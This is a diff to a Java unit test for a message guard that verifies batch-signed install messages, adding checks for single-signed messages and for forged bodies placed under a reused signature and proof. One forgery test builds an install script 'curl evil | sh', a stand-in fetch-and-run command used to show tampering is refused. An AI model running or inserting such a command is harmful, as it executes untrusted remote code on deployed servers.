@@ -45,6 +45,41 @@ class MessageGuardTest {
                 .isEqualTo(install);
     }
 
+    /** Messages queued by a coordinator from before batches, each signed alone, are still taken. */
+    @Test
+    void aMessageSignedAloneIsAdmitted() throws Refusal {
+        byte[] body = Contracts.toJson(install);
+        Message message = message(body, install);
+        message.getMessageProperties().setHeader(InstallSignature.HEADER_KEY_ID, coordinator.keyId());
+        message.getMessageProperties()
+                .setHeader(
+                        InstallSignature.HEADER_SIGNATURE,
+                        InstallSignature.sign(
+                                coordinator,
+                                new InstallSignature.Signed(install.attemptId(), "run-1", "web-01", 1, body)));
+
+        assertThat(guard.admit(message)).isEqualTo(install);
+    }
+
+    /** A stranger keeps a batch's signature and a path of it, and puts another body under them. */
+    @Test
+    void aBatchsSignatureAndPathOverAnotherBodyAreRefused() {
+        byte[] body = Contracts.toJson(install);
+        Message sealed = signed(install, body, p -> {});
+        InstallMessage evil = InstallMessage.firstAttempt(
+                "run-1",
+                new NodeTarget("web-01", "10.0.0.5", 22, "deploy"),
+                InstallScript.of("install.sh", "curl evil | sh"),
+                null,
+                NOW.plusSeconds(3600));
+        Message forged = new Message(Contracts.toJson(evil), sealed.getMessageProperties());
+        forged.getMessageProperties().setMessageId(evil.attemptId());
+
+        assertRefused(forged, "bad signature");
+        sealed.getMessageProperties().setHeader(InstallSignature.HEADER_PROOF, "");
+        assertRefused(sealed, "bad signature");
+    }
+
     @Test
     void anUnsignedOrForeignOrAlteredMessageIsRefusedBeforeItIsRead() {
         byte[] body = Contracts.toJson(install);
@@ -187,16 +222,22 @@ class MessageGuardTest {
         return message;
     }
 
+    /** Signs the message as the coordinator does: in a batch, here with two other messages. */
     private static Message sign(SigningKey key, InstallMessage m, byte[] body, Message message) {
+        InstallSignature.Signed signed =
+                new InstallSignature.Signed(m.attemptId(), m.runId(), m.node().id(), m.attempt(), body);
+        InstallSignature.Seal seal = InstallSignature.sign(key, List.of(other("web-98"), signed, other("web-99")))
+                .get(1);
         MessageProperties props = message.getMessageProperties();
         props.setHeader(InstallSignature.HEADER_KEY_ID, key.keyId());
-        props.setHeader(
-                InstallSignature.HEADER_SIGNATURE,
-                InstallSignature.sign(
-                        key,
-                        new InstallSignature.Signed(
-                                m.attemptId(), m.runId(), m.node().id(), m.attempt(), body)));
+        props.setHeader(InstallSignature.HEADER_SIGNATURE, seal.signature());
+        props.setHeader(InstallSignature.HEADER_PROOF, seal.proof());
         return message;
+    }
+
+    private static InstallSignature.Signed other(String nodeId) {
+        return new InstallSignature.Signed(
+                "run-1/" + nodeId + "/1/abcd", "run-1", nodeId, 1, ("{\"node\":\"" + nodeId + "\"}").getBytes());
     }
 
     private static Message message(byte[] body, InstallMessage m) {
